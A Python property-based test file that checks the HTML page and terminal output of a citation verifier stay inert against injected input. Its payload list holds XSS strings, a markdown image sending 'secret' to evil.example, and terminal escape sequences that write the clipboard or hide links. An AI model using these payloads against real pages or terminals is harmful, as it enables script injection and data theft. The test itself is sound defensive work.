"""R31: nothing of a text or a document is active on the page or the terminal of ``verify``."""

import io
import re
from contextlib import redirect_stdout
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from fingerpost.cli.verified import show_checked
from fingerpost.cli.verified_html import page_of
from fingerpost.pipeline.against import CheckedText
from fingerpost.types.document import Document
from fingerpost.verify import CitationVerifier, SourceText, listed_sources

TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "p", "span", "main", "div",
    "section", "aside", "details", "summary", "ul", "li",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "id", "tabindex", "aria-describedby",
}  # fmt: skip
CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]"
)
PAYLOADS = st.sampled_from(
    [
        "<script>alert(1)</script>", "</style><script>", "</title><img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", "<a href='javascript:alert(1)'>x</a>",
        "![x](https://evil.example/?q=secret)", "[x](data:text/html,<script>)", "<https://evil.example>",
        "[x][1]\n\n[1]: https://evil.example/a.md", "<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;",
        "\x1b[31m", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x9b2J",
        "\u202e", "\u2066", "\u200b", "\ufeff", "\x00", "\x07", "\r", "\x08\x08\x08", "\ud800", "\u2028",
        "[bold red]", "[/]", "[link=https://evil.example]x[/link]", ":warning:", "%3Cscript%3E",
        "The mode is safe. ", "The gate opens at noon [1]. ", "\n\n", "- ", "| a | b |\n|---|---|\n",
    ]
)  # fmt: skip
TEXT = st.lists(PAYLOADS, min_size=1, max_size=8).map("".join)


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@settings(max_examples=300, deadline=None)
@given(TEXT, TEXT, TEXT)
def test_whatever_text_source_and_path_hold_the_output_is_inert(text, source, path):
    source = f"The mode is safe. The gate opens at noon. {source}"
    text = f"The mode is safe [1]. {text}"
    body, listed = listed_sources(text)
    found = CitationVerifier().verify_sync(body, [SourceText(source, 1, path)])
    document = Document("id", path, "docs", "file:///x", "title", "hash")
    checked = CheckedText(text, found, {1: document}, listed or {1: path}, (1,))
    page = page_of(checked, title=path, took_ms=1.0)
    seen = Tags()
    seen.feed(page)
    assert seen.tags <= TAGS
    assert seen.attributes <= ATTRIBUTES
    assert "default-src 'none'" in page
    assert not CONTROL.search(page)
    page.encode("utf-8")
    out = io.StringIO()
    with redirect_stdout(out):
        show_checked(checked, took_ms=1.0, explain=True)
    assert not CONTROL.search(out.getvalue())
